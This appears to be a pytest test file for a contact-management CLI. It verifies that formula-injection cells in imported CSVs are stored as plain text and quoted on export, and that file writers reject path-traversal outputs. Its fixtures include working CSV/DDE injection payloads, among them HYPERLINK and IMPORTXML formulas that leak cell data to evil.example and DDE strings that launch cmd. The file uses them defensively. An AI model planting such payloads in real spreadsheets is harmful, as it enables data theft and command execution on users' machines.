"""Hostile input through files: formula injection in CSVs, and output paths outside the cwd.

A contact CSV whose cells start with `=`, `+`, `-` or `@` (`=HYPERLINK(...)`, DDE payloads) is
imported with those cells stored exactly as text; every CSV Nudge writes afterwards shows such
a cell with a leading quote, so a spreadsheet never runs it. Every command that writes a file
refuses a path outside the working directory (parent paths, absolute paths, `~`, a symlink
pointing out), with one clear line and nothing written. A hypothesis target checks the CSV
writer on arbitrary cells. Hostile cases tried: 37 fixed (8 formula cells imported and exported,
9 cell checks, 5 file writers x 4 escaping paths) + 100 generated rows.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from typer.testing import CliRunner

from bot.cli.main import app, register_commands
from tools import registry
from tools.core.context import ToolContext
from tools.core.db import session_scope
from tools.core.models import Contact
from tools.core.safe_output import safe_cell, write_csv

register_commands()
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "\t=1+1",
    "\r=1+1",
]


def nudge(*arguments: str):
    return CliRunner().invoke(app, list(arguments))


def import_formulas(tmp_path: Path) -> Path:
    path = tmp_path / "contacts.csv"
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["user_id", "email", "first_name", "last_name", "region", "note"])
        for n, formula in enumerate(FORMULAS):
            writer.writerow([f"f{n}", f"f{n}@x.example", formula, formula, "London", formula])
    return path


def test_formula_cells_are_imported_as_plain_text(settings, engine, tmp_path):
    result = nudge("import", "contacts", str(import_formulas(tmp_path)))

    assert result.exit_code == 0, result.output
    with session_scope(engine) as db:
        stored = {c.user_id: c for c in db.scalars(select(Contact))}
    for n, formula in enumerate(FORMULAS):
        contact = stored[f"f{n}"]
        assert contact.first_name == formula.strip() or contact.first_name == formula
        assert contact.traits.get("note") in (formula, formula.strip())


def test_csv_exports_of_customer_text_carry_a_leading_quote(settings, engine, tmp_path):
    nudge("import", "contacts", str(import_formulas(tmp_path)))
    with session_scope(engine) as db:
        ctx = ToolContext(db=db, settings=settings, confirmed=True)
        for n, formula in enumerate(FORMULAS):
            registry.call(ctx, "forget_contact", {"contact": f"f{n}"})
    from tools.core import audit
    with session_scope(engine) as db:
        for formula in FORMULAS:
            audit.record(db, formula, "note", formula, {"text": formula})

    result = nudge("audit", "--csv")

    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'" + FORMULAS[0] in cells


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("Alice", "Alice"), ("a=b", "a=b"), (42, 42), (None, None),
])
def test_safe_cell_quotes_exactly_the_formula_starts(value, shown):
    assert safe_cell(value) == shown


@given(cells=st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_fuzz_no_written_cell_can_start_a_formula(cells):
    buffer = io.StringIO()
    write_csv(buffer, ["a"], [cells])

    [_, row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert [cell.removeprefix("'") for cell in row] == [
        cell.removeprefix("'") if not cell.startswith(("=", "+", "-", "@", "\t", "\r")) else cell
        for cell in cells]


EVERYONE = {"attribute": "country", "op": "ne", "value": "ZZ"}
ESCAPES = ["../escaped.out", "/tmp/nudge-escaped.out", "~/nudge-escaped.out", "outlink/escaped.out"]
WRITERS = {
    "export-contact": lambda out: ["export-contact", "u1", "--out", out],
    "audience export": lambda out: ["audience", "export", "everyone", "--out", out],
    "audience buyers": lambda out: ["audience", "buyers", "--out", out],
    "audience lookalike": lambda out: ["audience", "lookalike", "--out", out],
    "digest png": lambda out: ["digest", "--print", "--png", out],
}


@pytest.mark.parametrize("writer", list(WRITERS))
def test_every_file_writer_refuses_paths_outside_the_working_directory(
    settings, engine, tmp_path, writer
):
    with session_scope(engine) as db:
        db.add(Contact(user_id="u1", email="u1@x.example", email_consent="opt_in", ad_consent=True))
        registry.call(ToolContext(db=db, settings=settings), "create_segment",
                      {"name": "everyone", "spec": EVERYONE})
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    (tmp_path / "outlink").symlink_to(outside)
    escapes = [tmp_path.parent / "escaped.out", Path("/tmp/nudge-escaped.out"),
               Path("~/nudge-escaped.out").expanduser()]
    existing = {path for path in escapes if path.exists()}

    answers = {target: nudge(*WRITERS[writer](target)) for target in ESCAPES}

    written = {path for path in escapes if path.exists()} - existing
    for path in written:  # a failing writer must not leave its file behind for the next run
        path.unlink()
    wrong = {target: result.output[:120] for target, result in answers.items()
             if result.exit_code != 2 or len(result.stderr.strip().splitlines()) != 1
             or "outside" not in result.stderr}
    assert wrong == {}, f"{writer} did not refuse these paths"
    assert list(outside.iterdir()) == [] and written == set()
